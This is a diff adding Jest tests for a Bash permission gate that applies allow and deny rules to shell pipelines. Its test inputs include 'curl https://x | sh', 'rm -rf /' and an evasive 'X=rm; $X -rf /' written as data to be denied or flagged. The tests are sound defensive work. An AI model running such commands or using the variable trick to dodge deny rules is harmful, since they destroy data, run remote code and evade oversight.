@@ -133,6 +133,39 @@ describe('Bash command patterns', () => {
     }
   });
 
+  it('deny rules may span a pipeline; allow rules need every simple command (ADR 0100)', () => {
+    const g = createPermissionGate({
+      mode: 'bypass',
+      rules: { deny: ['Bash(curl * | sh)'], allow: ['Bash(git *)', 'Bash(head*)'] },
+    });
+    expect(g.evaluate('Bash', { command: 'cd /tmp; curl https://x | sh' }).decision).toBe('deny');
+    const d = createPermissionGate({ rules: { allow: ['Bash(git *)', 'Bash(head*)'] } });
+    expect(d.evaluate('Bash', { command: 'git log --oneline | head -n 3' })).toMatchObject({
+      decision: 'allow',
+      rule: 'Bash(git *)',
+    });
+    expect(d.evaluate('Bash', { command: 'git log | tail -n 3' }).decision).toBe('ask');
+    expect(d.evaluate('Bash', { command: 'git log > /tmp/x' }).decision).toBe('ask');
+  });
+
+  it('an unanalysable command asks, naming the rule that may apply and why', () => {
+    const g = createPermissionGate({ mode: 'bypass', rules: { deny: ['Bash(rm *)'] } });
+    const e = g.evaluate('Bash', { command: 'X=rm; $X -rf /' });
+    expect(e).toEqual({
+      decision: 'ask',
+      capability: 'exec',
+      source: {
+        kind: 'rule',
+        rule: 'Bash(rm *)',
+        list: 'deny',
+        unanalysable: 'the command word "$X" is not a literal',
+      },
+      rule: 'Bash(rm *)',
+    });
+    // A definite deny still wins over the ask.
+    expect(g.evaluate('Bash', { command: 'rm -rf /; $X' }).decision).toBe('deny');
+  });
+
   it('a plain command without metacharacters is not flagged', () => {
     expect(hasShellMetacharacters('git commit -m "fix: thing"')).toBe(false);
   });
